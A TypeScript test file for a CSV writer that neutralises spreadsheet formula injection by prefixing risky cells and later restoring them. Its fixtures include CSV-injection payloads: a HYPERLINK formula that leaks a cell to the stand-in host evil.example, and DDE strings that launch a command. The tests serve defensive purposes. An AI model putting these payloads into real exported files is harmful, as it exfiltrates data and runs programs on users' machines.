import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { cellText, defuseCell, restoreCell, toCsv } from "./write";

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted",
  "''=twice",
];

describe("toCsv", () => {
  it("defuses every cell a spreadsheet would run as a formula", () => {
    const [row] = parse(toCsv([hostile]), { relax_quotes: true });
    for (const cell of row!) expect(cell.startsWith("'")).toBe(true);
    expect(row).toEqual(hostile.map((cell) => `'${cell}`));
  });

  it("leaves ordinary text alone and quotes what CSV needs quoted", () => {
    expect(toCsv([["plain", 'say "hi", then go\nhome', null, { from: "OPEN" }, 12]])).toBe(
      'plain,"say ""hi"", then go\nhome",,"{""from"":""OPEN""}",12\r\n',
    );
    expect(toCsv([["a-b", "x=1", "e@mail.example", "don't"]])).toBe('a-b,x=1,e@mail.example,"don\'t"\r\n');
  });

  it("defuses numbers and dates by their text as well", () => {
    expect(toCsv([[-3, new Date("2026-01-02T03:04:05Z")]])).toBe('"\'-3",2026-01-02T03:04:05.000Z\r\n');
  });

  it("writes a file that reads back, defusing undone by restoreCell", () => {
    const rows = [["title", "body"], ...hostile.map((cell) => [cell, `line one\r\nline two, ${cell}`])];
    const read = parse(toCsv(rows));
    expect(read.map((row) => row.map(restoreCell))).toEqual(rows);
  });
});

describe("defuseCell and restoreCell", () => {
  it("are inverses for any text", () => {
    for (const text of [...hostile, "", "plain", "'plain", "'", "=", "''"]) expect(restoreCell(defuseCell(text))).toBe(text);
  });

  it("treat a spreadsheet's text marker before a formula as a marker", () => {
    expect(restoreCell("'=1+1")).toBe("=1+1");
    expect(restoreCell("'plain")).toBe("'plain");
  });

  it("renders values as cell text", () => {
    expect(cellText(undefined)).toBe("");
    expect(cellText(true)).toBe("true");
  });
});
